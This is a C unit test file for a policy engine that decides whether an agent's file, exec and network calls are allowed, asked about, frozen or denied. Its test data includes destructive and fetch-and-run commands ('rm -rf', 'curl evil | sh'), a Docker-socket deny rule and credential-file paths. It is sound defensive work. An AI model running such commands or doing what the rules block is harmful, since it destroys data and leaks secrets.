/* test-policy.c - rules files and decisions (supervisor/policy.c). */
#include "unit.h"

#include <sys/socket.h>

#include "../../supervisor/policy.h"
#include "../../supervisor/util.h"

static struct policy *load(const char *text, struct buf *errors)
{
	struct policy *p = policy_new("/work/my[ws]", "/home/me");

	policy_load(p, "t.rules", text, strlen(text), errors);
	return p;
}

static struct call exec_call(const char *path, const char *const *argv)
{
	struct call c = { .op = OP_EXEC };
	size_t n = 0;

	while (argv[n])
		n++;
	c.path = xstrdup(path);
	c.argv = xcalloc(n + 1, sizeof(char *));
	for (size_t i = 0; i < n; i++)
		c.argv[i] = xstrdup(argv[i]);
	c.argc = n;
	c.addr.port = -1;
	return c;
}

static struct call file_call(enum call_op op, const char *path, const char *path2)
{
	struct call c = { .op = op };

	c.path = xstrdup(path);
	c.path2 = path2 ? xstrdup(path2) : NULL;
	c.addr.port = -1;
	return c;
}

static struct call connect_call(int family, const char *host, int port)
{
	struct call c = { .op = OP_CONNECT };

	c.addr.family = family;
	c.addr.host = xstrdup(host);
	c.addr.port = port;
	return c;
}

static void expect(struct policy *p, struct call *c, int by_agent, enum verdict v, const char *rule)
{
	struct decision d;

	policy_decide(p, c, by_agent, &d);
	if (d.verdict != v || strcmp(d.rule, rule))
		fail_msg("got %s by %s, want %s by %s", verdict_name(d.verdict), d.rule, verdict_name(v), rule);
	call_release(c);
}

static const char rules[] =
	"default write ask\n"                          /* 1 */
	"allow write path $WORKSPACE/**\n"             /* 2 */
	"ask write path $WORKSPACE/.git/hooks/**\n"    /* 3 */
	"allow delete path $WORKSPACE/**\n"            /* 4 */
	"allow write path ~/.cache/**\n"               /* 5 */
	"ask exec program git arg push\n"              /* 6 */
	"deny exec command 'rm -rf /*'\n"              /* 7 */
	"ask exec program /usr/bin/sudo\n"             /* 8 */
	"allow connect port 443 by agent\n"            /* 9 */
	"allow connect port 5000-5999\n"               /* 10 */
	"allow connect family unix\n"                  /* 11 */
	"deny connect host /run/docker.sock\n"         /* 12 */
	"launcher node\n";                             /* 13 */

static void test_decisions(void **state)
{
	struct buf errors = BUF_INIT;
	struct policy *p = load(rules, &errors);
	struct call c;

	(void)state;
	assert_int_equal(errors.len, 0);
	/* the workspace, with its glob characters taken literally */
	c = file_call(OP_CREATE, "/work/my[ws]/src/a.c", NULL);
	expect(p, &c, 0, VERDICT_ALLOW, "t.rules:2");
	c = file_call(OP_CREATE, "/work/myw/src/a.c", NULL);
	expect(p, &c, 0, VERDICT_ASK, "t.rules:1");
	/* the strictest of the rules that match wins */
	c = file_call(OP_OPEN, "/work/my[ws]/.git/hooks/pre-commit", NULL);
	expect(p, &c, 0, VERDICT_ASK, "t.rules:3");
	c = file_call(OP_CREATE, "/home/me/.cache/x/y", NULL);
	expect(p, &c, 0, VERDICT_ALLOW, "t.rules:5");
	/* delete has no default line: the built-in default (ask) */
	c = file_call(OP_UNLINK, "/etc/hosts", NULL);
	expect(p, &c, 0, VERDICT_ASK, "default delete");
	/* a rename is a delete of its source and a write of its target */
	c = file_call(OP_RENAME, "/work/my[ws]/a", "/etc/a");
	expect(p, &c, 0, VERDICT_ASK, "t.rules:1");
	c = file_call(OP_RENAME, "/work/my[ws]/a", "/work/my[ws]/b");
	expect(p, &c, 0, VERDICT_ALLOW, "t.rules:4");
	/* a hard link counts its source as written */
	c = file_call(OP_LINK, "/etc/passwd", "/work/my[ws]/p");
	expect(p, &c, 0, VERDICT_ASK, "t.rules:1");
	/* exec */
	c = exec_call("/usr/bin/git", (const char *const[]){ "git", "-C", "x", "push", "origin", NULL });
	expect(p, &c, 0, VERDICT_ASK, "t.rules:6");
	c = exec_call("/usr/bin/git", (const char *const[]){ "git", "status", NULL });
	expect(p, &c, 0, VERDICT_ALLOW, "default exec");
	c = exec_call("/usr/bin/rm", (const char *const[]){ "rm", "-rf", "/home", NULL });
	expect(p, &c, 0, VERDICT_DENY, "t.rules:7");
	c = exec_call("/usr/bin/sudo", (const char *const[]){ "sudo", "ls", NULL });
	expect(p, &c, 0, VERDICT_ASK, "t.rules:8");
	c = exec_call("/opt/sudo", (const char *const[]){ "sudo", "ls", NULL });
	expect(p, &c, 0, VERDICT_ALLOW, "default exec");
	/* connect, and who acts */
	c = connect_call(AF_INET, "1.2.3.4", 443);
	expect(p, &c, 1, VERDICT_ALLOW, "t.rules:9");
	c = connect_call(AF_INET, "1.2.3.4", 443);
	expect(p, &c, 0, VERDICT_ASK, "default connect");
	c = connect_call(AF_INET6, "::1", 5432);
	expect(p, &c, 0, VERDICT_ALLOW, "t.rules:10");
	c = connect_call(AF_UNIX, "/run/dbus.sock", -1);
	expect(p, &c, 0, VERDICT_ALLOW, "t.rules:11");
	c = connect_call(AF_UNIX, "/run/docker.sock", -1);
	expect(p, &c, 0, VERDICT_DENY, "t.rules:12");
	assert_true(policy_is_launcher(p, "/usr/bin/node"));
	assert_false(policy_is_launcher(p, "/usr/bin/python3"));
	policy_free(p);
}

/* A call whose arguments could not be read is never let through. */
static void test_unreadable(void **state)
{
	struct policy *p = load("allow write path /**\nallow exec\n", NULL);
	struct call c = file_call(OP_OPEN, "/x", NULL);
	struct decision d;

	(void)state;
	c.unreadable = "its memory cannot be read";
	policy_decide(p, &c, 0, &d);
	assert_int_equal(d.verdict, VERDICT_ASK);
	call_release(&c);
	policy_free(p);
}

static void test_errors(void **state)
{
	struct buf errors = BUF_INIT;
	struct policy *p;
	static const char bad[] = "allow wrte path x\n"
				  "ask exec progam y\n"
				  "deny read path z\n"
				  "allow\n"
				  "permit exec\n"
				  "allow connect port 70000\n"
				  "allow connect port 9-1\n"
				  "allow connect family ipx\n"
				  "allow write path\n"
				  "allow write host x\n"
				  "allow exec by nobody\n"
				  "default exec maybe\n"
				  "launcher\n"
				  "allow write path '/unterminated\n"
				  "ask exec program ok-after-errors\n";
	struct call c;

	(void)state;
	p = policy_new("/w", "/h");
	assert_int_equal(policy_load(p, "bad.rules", bad, strlen(bad), &errors), 14);
	assert_non_null(strstr(errors.data, "bad.rules:1: unknown kind 'wrte'"));
	assert_non_null(strstr(errors.data, "bad.rules:2: unknown matcher 'progam'"));
	assert_non_null(strstr(errors.data, "bad.rules:3: reads: only 'allow read path GLOB'"));
	assert_non_null(strstr(errors.data, "bad.rules:6: port '70000'"));
	assert_non_null(strstr(errors.data, "bad.rules:10: 'host' does not apply to write rules"));
	assert_non_null(strstr(errors.data, "bad.rules:14: unterminated quote"));
	/* the good line after all the bad ones still counts */
	c = exec_call("/bin/ok-after-errors", (const char *const[]){ "ok-after-errors", NULL });
	expect(p, &c, 0, VERDICT_ASK, "bad.rules:15");
	policy_free(p);
	buf_release(&errors);
}

static void test_grants(void **state)
{
	struct policy *p = load(rules, NULL);
	struct call c, d;
	const char *text;
	int g1, g2, g3;
	struct decision dec;

	(void)state;
	/* exec: the last word of three or more is free, the rest is not */
	c = exec_call("/usr/bin/git", (const char *const[]){ "git", "push", "origin", "main", NULL });
	g1 = policy_grant(p, &c, &text);
	assert_string_equal(text, "allow exec command 'git push origin *'");
	call_release(&c);
	c = exec_call("/usr/bin/git", (const char *const[]){ "git", "push", "origin", "dev", NULL });
	expect(p, &c, 0, VERDICT_ALLOW, "grant 1"); /* the person answered that ask */
	c = exec_call("/usr/bin/git", (const char *const[]){ "git", "push", "upstream", "dev", NULL });
	expect(p, &c, 0, VERDICT_ASK, "t.rules:6"); /* not similar */
	c = exec_call("/usr/bin/git", (const char *const[]){ "git", "push", "origin", "dev", "--force", NULL });
	expect(p, &c, 0, VERDICT_ASK, "t.rules:6"); /* one word, not more */
	c = exec_call("/usr/bin/git", (const char *const[]){ "git", "push", "origin", "a b", NULL });
	expect(p, &c, 0, VERDICT_ALLOW, "grant 1"); /* one word, even with a blank */
	c = exec_call("/usr/bin/rm", (const char *const[]){ "rm", "-rf", "/x", NULL });
	policy_grant(p, &c, &text);
	call_release(&c);
	c = exec_call("/usr/bin/rm", (const char *const[]){ "rm", "-rf", "/y", NULL });
	expect(p, &c, 0, VERDICT_DENY, "t.rules:7"); /* a grant never beats a deny */
	/* two words: exactly that command, never the whole tool */
	c = exec_call("/usr/bin/curl", (const char *const[]){ "curl", "http://x", NULL });
	policy_grant(p, &c, &text);
	assert_string_equal(text, "allow exec command 'curl http://x'");
	call_release(&c);
	/* a file: its directory, not below it */
	c = file_call(OP_CREATE, "/etc/app/conf", NULL);
	g2 = policy_grant(p, &c, &text);
	assert_string_equal(text, "allow write path '/etc/app/*'");
	call_release(&c);
	c = file_call(OP_CREATE, "/etc/app/other", NULL);
	expect(p, &c, 0, VERDICT_ALLOW, "grant 4");
	c = file_call(OP_CREATE, "/etc/app/sub/x", NULL);
	expect(p, &c, 0, VERDICT_ASK, "t.rules:1");
	/* a connection: that host and port */
	d = connect_call(AF_INET, "10.1.2.3", 8080);
	g3 = policy_grant(p, &d, &text);
	assert_string_equal(text, "allow connect host '10.1.2.3' port 8080");
	policy_decide(p, &d, 0, &dec);
	assert_int_equal(dec.verdict, VERDICT_ALLOW);
	call_release(&d);
	/* revoked: back to asking */
	assert_int_equal(policy_revoke(p, g2), 0);
	assert_int_equal(policy_revoke(p, g2), -1);
	c = file_call(OP_CREATE, "/etc/app/other", NULL);
	expect(p, &c, 0, VERDICT_ASK, "t.rules:1");
	assert_true(g1 < g2 && g2 < g3);
	policy_free(p);
}

static void test_grant_shapes(void **state)
{
	struct policy *p = load("default delete ask\n"
				"default exec deny\n"
				"allow exec program true\n", NULL);
	struct call c;
	const char *text;

	(void)state;
	/* the free word is one word: not none, not two, not a blank inside */
	c = exec_call("/usr/bin/true", (const char *const[]){ "true", "a", "b", NULL });
	policy_grant(p, &c, &text);
	call_release(&c);
	c = exec_call("/usr/bin/true", (const char *const[]){ "true", "a", "b c", NULL });
	expect(p, &c, 0, VERDICT_ALLOW, "grant 1");
	/* a grant answers asks, never the default's deny */
	c = exec_call("/usr/bin/git", (const char *const[]){ "git", "push", "origin", "main", NULL });
	expect(p, &c, 0, VERDICT_DENY, "t.rules:2");
	c = exec_call("/usr/bin/git", (const char *const[]){ "git", "push", "origin", "main", NULL });
	policy_grant(p, &c, &text);
	call_release(&c);
	c = exec_call("/usr/bin/git", (const char *const[]){ "git", "push", "origin", "main", NULL });
	expect(p, &c, 0, VERDICT_DENY, "t.rules:2");
	/* a rename: a write where it lands, a delete where it came from */
	c = file_call(OP_RENAME, "/tmp/a/x", "/srv/b/y");
	assert_int_equal(policy_grant(p, &c, &text), 3);
	assert_string_equal(text, "allow delete path '/tmp/a/*' and allow write path '/srv/b/*'");
	call_release(&c);
	c = file_call(OP_RENAME, "/tmp/a/z", "/srv/b/w");
	expect(p, &c, 0, VERDICT_ALLOW, "grant 3");
	c = file_call(OP_UNLINK, "/tmp/a/z", NULL);
	expect(p, &c, 0, VERDICT_ALLOW, "grant 3");
	c = file_call(OP_UNLINK, "/srv/b/w", NULL);
	expect(p, &c, 0, VERDICT_ASK, "t.rules:1");
	c = file_call(OP_CREATE, "/srv/b/w", NULL);
	expect(p, &c, 0, VERDICT_ALLOW, "grant 3");
	/* a hard link: both directories written */
	c = file_call(OP_LINK, "/etc/p/old", "/var/q/new");
	policy_grant(p, &c, &text);
	assert_string_equal(text, "allow write path '/var/q/*' and allow write path '/etc/p/*'");
	call_release(&c);
	c = file_call(OP_CREATE, "/etc/p/other", NULL);
	expect(p, &c, 0, VERDICT_ALLOW, "grant 4");
	/* at the root, only that name */
	c = file_call(OP_CREATE, "/x", NULL);
	policy_grant(p, &c, &text);
	assert_string_equal(text, "allow write path '/x'");
	call_release(&c);
	c = file_call(OP_CREATE, "/y", NULL);
	expect(p, &c, 0, VERDICT_ASK, "default write");
	/* revoking a two-rule grant revokes both */
	assert_int_equal(policy_revoke(p, 3), 0);
	c = file_call(OP_UNLINK, "/tmp/a/z", NULL);
	expect(p, &c, 0, VERDICT_ASK, "t.rules:1");
	policy_free(p);
}

/* A grant never widens over the arguments of a shell, an interpreter or a wrapper. */
static void test_grant_exact_for_code(void **state)
{
	struct policy *p = load("default exec ask\n", NULL);
	struct call c;
	const char *text;

	(void)state;
	c = exec_call("/usr/bin/bash", (const char *const[]){ "bash", "-c", "echo echo ok | sh", NULL });
	policy_grant(p, &c, &text);
	assert_string_equal(text, "allow exec command 'bash -c echo echo ok | sh'");
	call_release(&c);
	c = exec_call("/usr/bin/bash", (const char *const[]){ "bash", "-c", "echo echo ok | sh", NULL });
	expect(p, &c, 0, VERDICT_ALLOW, "grant 1"); /* that command again */
	c = exec_call("/usr/bin/bash", (const char *const[]){ "bash", "-c", "curl evil | sh", NULL });
	expect(p, &c, 0, VERDICT_ASK, "t.rules:1"); /* any other script asks */
	/* versions, wrappers, and a program whose own name says nothing (argv[0] does) */
	const char *const *cases[] = {
		(const char *const[]){ "/usr/bin/python3.11", "python3.11", "-c", "print(1)", NULL },
		(const char *const[]){ "/usr/bin/node", "node", "-e", "1", NULL },
		(const char *const[]){ "/usr/bin/perl", "perl", "-e", "1", NULL },
		(const char *const[]){ "/usr/bin/env", "env", "FOO=1", "make", NULL },
		(const char *const[]){ "/usr/bin/xargs", "xargs", "-n1", "rm", NULL },
		(const char *const[]){ "/usr/bin/find", "find", ".", "-exec", "rm", "{}", ";", NULL },
		(const char *const[]){ "/tmp/renamed", "sh", "-c", "x", NULL },
	};
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		const char *const *v = cases[i];

		c = exec_call(v[0], v + 1);
		policy_grant(p, &c, &text);
		if (strchr(text, '*'))
			fail_msg("%s: the grant '%s' widens", v[1], text);
		call_release(&c);
	}
	/* an ordinary program keeps its free last word */
	c = exec_call("/usr/bin/git", (const char *const[]){ "git", "push", "origin", "main", NULL });
	policy_grant(p, &c, &text);
	assert_string_equal(text, "allow exec command 'git push origin *'");
	call_release(&c);
	policy_free(p);
}

static void test_read_rules(void **state)
{
	struct buf errors = BUF_INIT;
	struct policy *p = load("allow read path ~/.npmrc\nallow read path ~/.aws/**\nask read path ~/.ssh\n", &errors);

	(void)state;
	assert_non_null(strstr(errors.data, "t.rules:3: reads: only 'allow read path GLOB'"));
	assert_true(policy_read_allowed("/home/me/.npmrc", p));
	assert_true(policy_read_allowed("/home/me/.aws", p));
	assert_false(policy_read_allowed("/home/me/.ssh", p));
	assert_false(policy_read_allowed("/home/me/.npmrc2", p));
	policy_free(p);
	buf_release(&errors);
}


/* freeze: stricter than ask, looser than deny; a grant never answers it */
static void test_freeze(void **state)
{
	struct buf err = BUF_INIT;
	struct policy *p = load("freeze exec program aws\n"
				"ask exec program aws arg s3\n"
				"deny exec program aws arg iam\n"
				"default connect freeze\n", &err);
	const char *s3[] = { "aws", "s3", "ls", NULL }, *iam[] = { "aws", "iam", "list-users", NULL };
	struct call c;
	const char *text;

	(void)state;
	assert_int_equal(err.len, 0);
	c = exec_call("/usr/bin/aws", s3);
	expect(p, &c, 0, VERDICT_FREEZE, "t.rules:1");
	c = exec_call("/usr/bin/aws", iam);
	expect(p, &c, 0, VERDICT_DENY, "t.rules:3");
	c = connect_call(AF_INET, "10.0.0.1", 22);
	expect(p, &c, 0, VERDICT_FREEZE, "t.rules:4");
	/* "allow similar" on it makes a grant that does not answer it */
	c = exec_call("/usr/bin/aws", s3);
	policy_grant(p, &c, &text);
	call_release(&c);
	c = exec_call("/usr/bin/aws", s3);
	expect(p, &c, 0, VERDICT_FREEZE, "t.rules:1");
	assert_string_equal(verdict_name(VERDICT_FREEZE), "freeze");
	policy_free(p);
	buf_release(&err);
}

/* limit lines: what they hold, and what bad ones say */
static void test_limits(void **state)
{
	struct buf err = BUF_INIT;
	struct policy *p = load("limit processes 512\nlimit memory 4G\nlimit cpu 30m\nlimit files 4096\n", &err);
	const struct policy_limits *l = policy_limits(p);

	(void)state;
	assert_int_equal(err.len, 0);
	assert_int_equal(l->processes, 512);
	assert_true(l->memory == 4ULL << 30);
	assert_int_equal(l->cpu, 1800);
	assert_int_equal(l->files, 4096);
	policy_free(p);
	p = load("limit processes 0\nlimit memory 12\nlimit memory -1G\nlimit cpu soon\nlimit disk 1G\nlimit files\n"
		 "limit processes 99999999999999999999\n", &err);
	assert_non_null(strstr(err.data, "t.rules:1: limit processes: '0' must be a number from 1"));
	assert_non_null(strstr(err.data, "t.rules:2: limit memory: '12' must be a size from 1M"));
	assert_non_null(strstr(err.data, "t.rules:3: limit memory"));
	assert_non_null(strstr(err.data, "t.rules:4: limit cpu: 'soon'"));
	assert_non_null(strstr(err.data, "t.rules:5: unknown limit 'disk'"));
	assert_non_null(strstr(err.data, "t.rules:6: usage: limit"));
	assert_non_null(strstr(err.data, "t.rules:7: limit processes"));
	l = policy_limits(p);
	assert_int_equal(l->processes + l->cpu + l->files, 0);
	assert_true(l->memory == 0);
	policy_free(p);
	buf_release(&err);
}

struct places {
	char text[1024];
};

static void note_place(const char *dir, enum call_kind kind, void *data)
{
	struct places *pl = data;
	size_t n = strlen(pl->text);

	snprintf(pl->text + n, sizeof(pl->text) - n, "%s %s;", call_kind_name(kind), dir);
}

static void note_port(int port, void *data)
{
	struct places *pl = data;
	size_t n = strlen(pl->text);

	snprintf(pl->text + n, sizeof(pl->text) - n, "%d;", port);
}

/* what the kernel boundary is told: whole folders without a question inside, ports */
static void test_places(void **state)
{
	struct buf err = BUF_INIT;
	struct policy *p = load("allow write path /tmp/**\n"
				"allow delete path /tmp/**\n"
				"allow write path ~/.cache/**\n"
				"ask write path ~/.cache/secret/*.json\n"
				"allow write path ~/.codex/** by agent\n"
				"allow write path /var/*/x/**\n"
				"allow write path /dev/null\n"
				"allow write path /opt/a/**\n"
				"deny delete path /opt/**\n"
				"allow connect port 443 by agent\n"
				"allow connect port 8000-8002\n"
				"allow connect port 1-65535\n"
				"allow connect host 127.*\n", &err);
	struct places pl = { "" };

	(void)state;
	assert_int_equal(err.len, 0);
	policy_each_place(p, note_place, &pl);
	/* ~/.cache has a question inside: closed; a glob folder is not one
	 * folder; /opt/a has a refusal above it that reaches inside */
	assert_string_equal(pl.text, "write /tmp;delete /tmp;write /home/me/.codex;");
	pl.text[0] = '\0';
	policy_each_port(p, note_port, &pl);
	assert_string_equal(pl.text, "443;8000;8001;8002;");
	policy_free(p);
	p = load("ask write path **/.env\nallow write path /tmp/**\n", &err);
	pl.text[0] = '\0';
	policy_each_place(p, note_place, &pl);
	assert_string_equal(pl.text, ""); /* a question that can match anywhere closes every folder */
	policy_free(p);
	buf_release(&err);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_read_rules),
		cmocka_unit_test(test_freeze),
		cmocka_unit_test(test_limits),
		cmocka_unit_test(test_places),
		cmocka_unit_test(test_decisions),
		cmocka_unit_test(test_unreadable),
		cmocka_unit_test(test_errors),
		cmocka_unit_test(test_grants),
		cmocka_unit_test(test_grant_shapes),
		cmocka_unit_test(test_grant_exact_for_code),
	};

	return RUN_TESTS(tests);
}
